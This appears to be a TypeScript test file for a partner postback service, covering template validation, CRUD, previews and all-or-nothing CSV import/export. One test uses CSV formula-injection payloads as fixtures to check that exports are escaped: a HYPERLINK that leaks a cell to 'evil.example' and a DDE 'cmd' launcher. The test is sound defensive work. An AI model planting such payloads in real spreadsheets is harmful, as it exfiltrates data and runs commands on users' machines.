import { Code, ConnectError } from "@connectrpc/connect";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { EventKind, HttpMethod } from "../../gen/funnel/postback/v1/partner_pb.js";
import type { App } from "../../services/app.js";
import { at, postbackClients, seedTemplate, testPartner, type PostbackClients } from "../support/postback-clients.js";
import { startTestApp } from "../support/stores.js";

const failure = (promise: Promise<unknown>) => promise.then(() => undefined, (e: unknown) => ConnectError.from(e));

describe("PartnerService", () => {
  let app: App;
  let api: PostbackClients;

  beforeAll(async () => {
    app = await startTestApp({ roles: ["api"] });
    api = postbackClients(app.url);
  });
  afterAll(async () => {
    await app?.stop();
  });

  it("validates on write, naming the field and the position, and stores nothing", async () => {
    const bad = await failure(
      api.partners.createPartner({ partner: testPartner("p1", "https://t.example/?c={stag_clickId}", { install: { enabled: true, urlTemplate: "ftp://t.example/x" } }) }),
    );
    expect(bad?.code).toBe(Code.InvalidArgument);
    expect(bad?.rawMessage).toContain("partner.download.url_template: position 22: unknown placeholder {stag_clickId} (did you mean {stag_clickID}?)");
    expect(bad?.rawMessage).toContain("partner.install.url_template: position 1: the URL must start with http:// or https://");
    const unterminated = await failure(api.partners.createPartner({ partner: testPartner("p1", "https://t.example/{stag") }));
    expect(unterminated?.rawMessage).toContain('partner.download.url_template: position 19: unterminated placeholder "{stag"');
    const underscore = await failure(api.partners.createPartner({ partner: testPartner("p_1", "https://t.example/") }));
    expect(underscore?.rawMessage).toMatch(/^partner\.id: "p_1" may hold only letters, digits/);
    const json = await failure(
      api.partners.createPartner({ partner: testPartner("p1", "https://t.example/", { install: { enabled: true, urlTemplate: "https://t.example/", method: HttpMethod.POST, bodyTemplate: '{"u":{userID}}' } }) }),
    );
    expect(json?.rawMessage).toMatch(/^partner\.install\.body_template: not valid JSON once filled in/);
    expect((await api.partners.listPartners({})).partners).toHaveLength(0);
  });

  it("creates, updates, shows, lists and deletes", async () => {
    const created = await api.partners.createPartner({ partner: testPartner("acme", seedTemplate("https://acme.example")) });
    expect(created.partner).toMatchObject({ id: "acme", name: "Partner acme", enabled: true });
    expect((await failure(api.partners.createPartner({ partner: testPartner("acme", "https://x.example/") })))?.code).toBe(Code.AlreadyExists);
    const updated = await api.partners.updatePartner({ partner: { ...created.partner!, name: "Acme Ltd", enabled: false } });
    expect(updated.partner).toMatchObject({ name: "Acme Ltd", enabled: false });
    expect((await api.partners.getPartner({ id: "acme" })).partner?.name).toBe("Acme Ltd");
    expect((await api.partners.listPartners({})).partners.map((p) => p.id)).toEqual(["acme"]);
    expect((await failure(api.partners.updatePartner({ partner: testPartner("ghost", "https://x.example/") })))?.code).toBe(Code.NotFound);
    await api.partners.deletePartner({ id: "acme" });
    expect((await failure(api.partners.getPartner({ id: "acme" })))?.code).toBe(Code.NotFound);
  });

  it("previews a saved or an unsaved template for sample values", async () => {
    await api.partners.createPartner({ partner: testPartner("666321", seedTemplate("https://binom.com")) });
    const preview = await api.partners.previewPostback({
      partnerId: "666321",
      event: EventKind.AUTHORIZATION,
      sample: { clickId: "693fe967c1859daf6c30bfa2", params: { clickID: "ext 1" }, userId: "u-7", occurredAt: at(1_700_000_000) },
    });
    expect(preview.url).toBe("https://binom.com/postback/666321/?clickID=693fe967c1859daf6c30bfa2&externalClickID=ext%201&userID=u-7&ts=1700000000");
    expect(preview.headers["user-agent"]).toMatch(/^Funnel-Postback\//);
    expect(preview.wouldSend).toBe(true);
    const unsaved = await api.partners.previewPostback({ partnerId: "666321", event: EventKind.INSTALL, urlTemplate: "https://t.example/{event}", bodyTemplate: '{"d":"{deviceID}"}' });
    expect(unsaved).toMatchObject({ method: HttpMethod.POST, url: "https://t.example/install", body: '{"d":"DEVICE"}' });
    const bad = await failure(api.partners.previewPostback({ partnerId: "666321", event: EventKind.INSTALL, urlTemplate: "https://t.example/{nope}" }));
    expect(bad?.rawMessage).toMatch(/^url_template: position 19: unknown placeholder \{nope\}/);
  });

  it("previews a partner that is not saved yet, refusing it field by field as CreatePartner would", async () => {
    const draft = testPartner("draft-1", "https://d.example/i?c={stag_clickID}&e={event}");
    const preview = await api.partners.previewPostback({ partner: draft, event: EventKind.INSTALL, sample: { clickId: "k1" } });
    expect(preview).toMatchObject({ method: HttpMethod.GET, url: "https://d.example/i?c=k1&e=install", wouldSend: true });
    expect((await failure(api.partners.getPartner({ id: "draft-1" })))?.code).toBe(Code.NotFound);
    const bad = testPartner("draft 2", "https://d.example/{nope}");
    const refused = await failure(api.partners.previewPostback({ partner: bad, event: EventKind.INSTALL }));
    expect(refused?.code).toBe(Code.InvalidArgument);
    expect(refused?.rawMessage).toMatch(/^partner\.id: /);
    expect(refused?.rawMessage).toMatch(/; partner\.install\.url_template: position 19: unknown placeholder \{nope\}/);
  });

  it("imports CSV all or nothing with a per-row report, and exports what it imports", async () => {
    const header =
      "partner_id,name,enabled,timeout,max_attempts,initial_delay,max_delay,download_policy,install_enabled,install_url,authorization_enabled,authorization_method,authorization_url,authorization_body,authorization_headers";
    const good = [
      header,
      'alpha,Alpha,true,5s,3,1s,1m,once,true,https://a.example/i?c={stag_clickID},true,POST,https://a.example/a,"{""u"":""{userID}""}","X-Key: 1\nX-Other: two"',
      "beta,Beta,false,,,,,every,true,https://b.example/{stag},false,,,,",
    ];
    const badFile = [...good, "gamma_x,Gamma,maybe,,,,,sometimes,true,https://c.example/{oops},,,,,"].join("\r\n");
    const rejected = await api.partners.importPartners({ csv: badFile });
    expect(rejected.applied).toBe(false);
    // Line 5: the quoted headers cell of alpha spans lines 2 and 3.
    expect(rejected.errors.map((e) => `${e.line}:${e.partnerId}:${e.column}`).sort()).toEqual([
      "5:gamma_x:download_policy",
      "5:gamma_x:enabled",
      "5:gamma_x:install_url",
      "5:gamma_x:partner_id",
    ]);
    expect(rejected.errors.find((e) => e.column === "install_url")?.message).toMatch(/^position 19: unknown placeholder \{oops\}/);
    expect((await api.partners.listPartners({})).partners.map((p) => p.id)).toEqual(["666321"]);

    const dry = await api.partners.importPartners({ csv: good.join("\n"), dryRun: true });
    expect(dry).toMatchObject({ applied: false, created: ["alpha", "beta"], errors: [] });
    expect((await api.partners.listPartners({})).partners).toHaveLength(1);

    const applied = await api.partners.importPartners({ csv: good.join("\n"), prune: true });
    expect(applied).toMatchObject({ applied: true, created: ["alpha", "beta"], deleted: ["666321"] });
    const alpha = (await api.partners.getPartner({ id: "alpha" })).partner;
    expect(alpha?.authorization).toMatchObject({ method: HttpMethod.POST, bodyTemplate: '{"u":"{userID}"}', contentType: "application/json", headers: { "X-Key": "1", "X-Other": "two" } });
    expect(alpha?.retry?.maxAttempts).toBe(3);

    const exported = (await api.partners.exportPartners({})).csv;
    const again = await api.partners.importPartners({ csv: exported });
    expect(again).toMatchObject({ applied: true, created: [], updated: [], unchanged: ["alpha", "beta"] });
    expect((await api.partners.exportPartners({})).csv).toBe(exported);
  });

  it("exports formula-like values as text and imports them back unchanged", async () => {
    const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
    const partner = testPartner("formulas", "https://f.example/{stag}", {
      name: formula,
      install: { enabled: true, urlTemplate: "https://f.example/i", method: HttpMethod.POST, contentType: "text/plain", bodyTemplate: "@SUM(1+1)*cmd|' /C calc'!A0", headers: { "+X-Sum": "=1+1", "-X-Neg": "-1" } },
      authorization: { enabled: true, urlTemplate: "https://f.example/a", method: HttpMethod.POST, bodyTemplate: "-1" },
      download: { enabled: true, urlTemplate: "https://f.example/d", method: HttpMethod.POST, contentType: "text/plain", bodyTemplate: "'=kept" },
    });
    await api.partners.createPartner({ partner });
    const exported = (await api.partners.exportPartners({})).csv;
    const row = exported.split("\r\n").find((line) => line.startsWith("formulas,"));
    expect(row).toContain(`,"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")",`);
    expect(row).toContain(`,"'@SUM(1+1)*cmd|' /C calc'!A0",`);
    expect(row).toContain(`,"''=kept",`);
    expect(row).toContain(`,"'-1",`);
    expect(exported).toContain(`"'+X-Sum: =1+1\n-X-Neg: -1"`);

    const again = await api.partners.importPartners({ csv: exported });
    expect(again.errors).toEqual([]);
    expect(again.unchanged).toContain("formulas");
    expect(again.updated).toEqual([]);
    const stored = (await api.partners.getPartner({ id: "formulas" })).partner;
    expect(stored?.name).toBe(formula);
    expect(stored?.install).toMatchObject({ bodyTemplate: "@SUM(1+1)*cmd|' /C calc'!A0", headers: { "+X-Sum": "=1+1", "-X-Neg": "-1" } });
    expect(stored?.authorization?.bodyTemplate).toBe("-1");
    expect(stored?.download?.bodyTemplate).toBe("'=kept");
    expect((await api.partners.exportPartners({})).csv).toBe(exported);

    // A hand-protected cell (a leading TAB, as some tools write) is read as the value after it.
    const tabbed = exported.replace(`"'=HYPERLINK(`, `"\t=HYPERLINK(`);
    expect((await api.partners.importPartners({ csv: tabbed, dryRun: true })).unchanged).toContain("formulas");
    await api.partners.deletePartner({ id: "formulas" });
  });

  it("refuses to prune with a file that lists no partner unless confirmed", async () => {
    const before = (await api.partners.listPartners({})).partners.map((p) => p.id);
    expect(before.length).toBeGreaterThan(0);
    const headerOnly = (await api.partners.exportPartners({})).csv.split("\r\n")[0] + "\r\n";
    const refused = await failure(api.partners.importPartners({ csv: headerOnly, prune: true }));
    expect(refused?.code).toBe(Code.InvalidArgument);
    expect(refused?.rawMessage).toMatch(/^confirm_prune_all: /);
    expect((await api.partners.listPartners({})).partners.map((p) => p.id)).toEqual(before);
    // Without prune an empty file changes nothing; a dry run shows what would go.
    expect(await api.partners.importPartners({ csv: headerOnly })).toMatchObject({ applied: true, created: [], deleted: [] });
    expect(await api.partners.importPartners({ csv: headerOnly, prune: true, dryRun: true })).toMatchObject({ applied: false, deleted: before });
    expect((await api.partners.listPartners({})).partners.map((p) => p.id)).toEqual(before);
    expect(await api.partners.importPartners({ csv: headerOnly, prune: true, confirmPruneAll: true })).toMatchObject({ applied: true, deleted: before });
    expect((await api.partners.listPartners({})).partners).toEqual([]);
  });
});
